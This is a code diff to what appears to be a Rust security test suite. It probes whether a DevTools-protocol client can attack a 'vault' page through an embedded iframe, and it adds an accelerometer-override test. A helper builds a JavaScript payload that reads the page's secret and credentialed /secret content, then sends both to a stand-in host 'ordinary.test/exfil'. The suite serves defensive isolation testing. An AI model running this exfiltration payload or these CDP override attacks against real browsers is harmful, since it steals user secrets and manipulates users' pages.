@@ -27,6 +27,7 @@ pub fn all() -> Vec<Attack> {
         A::new("c8.widget-frame-close-target", "Target.closeTarget on the vault page's ordinary widget iframe target closes the vault tab", widget_frame_close_target),
         A::new("c8.widget-frame-ignore-input", "Input.setIgnoreInputEvents on a session to the vault page's ordinary widget iframe: the user's clicks on the vault page no longer reach it", widget_frame_ignore_input),
         A::new("c8.widget-frame-geolocation", "Emulation.setGeolocationOverride on a session to the vault page's ordinary widget iframe: the vault (the user's geolocation grant) reads the client's position", widget_frame_geolocation),
+        A::new("c8.widget-frame-sensor", "Emulation.setSensorOverrideEnabled and setSensorOverrideReadings on a session to the vault page's ordinary widget iframe: the vault's accelerometer reads the client's values", widget_frame_sensor),
         A::new("c8.sandboxed-srcdoc-read", "the vault page's sandboxed srcdoc iframe (its own process: an about:srcdoc iframe target), attached: it holds what the vault posted it", sandboxed_srcdoc_read),
         A::new("c8.data-frame-url-listed", "Target.getTargets lists the vault page's sandboxed data: iframe, whose URL holds the page's data", data_frame_url_listed),
         A::new("c8.data-frame-url-event", "Target.setDiscoverTargets: Target.targetCreated/targetInfoChanged carry the vault page's data: iframe URL, which holds the page's data", data_frame_url_event),
@@ -215,16 +216,18 @@ fn user_clicks(ctx: &Ctx, tab: &str) -> Result<(), Stop> {
 
 fn widget_frame_ignore_input(ctx: &Ctx) -> Res {
     let (tab, _, s) = widget_session(ctx)?;
-    // The user's click reaches the vault first (the control).
-    user_clicks(ctx, &tab)?;
-    let deadline = Instant::now() + Duration::from_secs(3);
-    while clicks(ctx) == 0 {
-        if Instant::now() >= deadline {
-            return Err(Stop::Setup(
-                "the user's click never reached the vault".into(),
-            ));
+    // Each of the user's clicks reaches the vault first (the control).
+    for n in 1..=2 {
+        user_clicks(ctx, &tab)?;
+        let deadline = Instant::now() + Duration::from_secs(3);
+        while clicks(ctx) < n {
+            if Instant::now() >= deadline {
+                return Err(Stop::Setup(format!(
+                    "the user's click {n} never reached the vault"
+                )));
+            }
+            sleep(100);
         }
-        sleep(100);
     }
     ctx.send(
         "Input.setIgnoreInputEvents",
@@ -270,6 +273,34 @@ fn widget_frame_geolocation(ctx: &Ctx) -> Res {
         Ok(format!("the vault page read the client's position {got}"))
     } else {
         Err(Stop::Failed(format!("the vault page read {got:?}")))
+    }
+}
+
+fn widget_frame_sensor(ctx: &Ctx) -> Res {
+    let (tab, _, s) = widget_session(ctx)?;
+    ctx.send(
+        "Emulation.setSensorOverrideEnabled",
+        json!({"enabled": true, "type": "accelerometer"}),
+        Some(&s),
+    )?;
+    ctx.send(
+        "Emulation.setSensorOverrideReadings",
+        json!({"type": "accelerometer", "reading": {"xyz": {"x": 2, "y": 3, "z": 4}}}),
+        Some(&s),
+    )?;
+    let v = ctx.user_eval(
+        &tab,
+        "new Promise((r) => { try { const a = new Accelerometer({frequency: 10}); a.onreading = () => { r(a.x + ',' + a.y + ',' + a.z); a.stop(); }; a.onerror = (e) => r('error ' + e.error.name + ' ' + e.error.message); a.start(); setTimeout(() => r('timeout'), 3000); } catch (e) { r('threw ' + e); } })",
+    )?;
+    let got = v.as_str().unwrap_or_default();
+    if got == "2,3,4" {
+        Ok(format!(
+            "the vault page's accelerometer read the client's {got}"
+        ))
+    } else {
+        Err(Stop::Failed(format!(
+            "the vault page's accelerometer read {got:?}"
+        )))
     }
 }
 
@@ -357,7 +388,7 @@ fn srcdoc_exfil_js(ctx: &Ctx) -> String {
     format!(
         "(async () => {{ let d = ''; try {{ d += parent.document.getElementById('secret').textContent; }} catch (e) {{ d += 'E' + e; }} \
          try {{ d += '|' + await (await fetch('/secret', {{credentials: 'include'}})).text(); }} catch (e) {{}} \
-         fetch('http://ordinary.test/exfil?t={}&o=' + encodeURIComponent(location.origin) + '&d=' + encodeURIComponent(d), {{mode: 'no-cors'}}); }})();",
+         fetch('http://ordinary.test/exfil?t={}&o=' + encodeURIComponent(self.origin) + '&d=' + encodeURIComponent(d), {{mode: 'no-cors'}}); }})();",
         ctx.tag
     )
 }
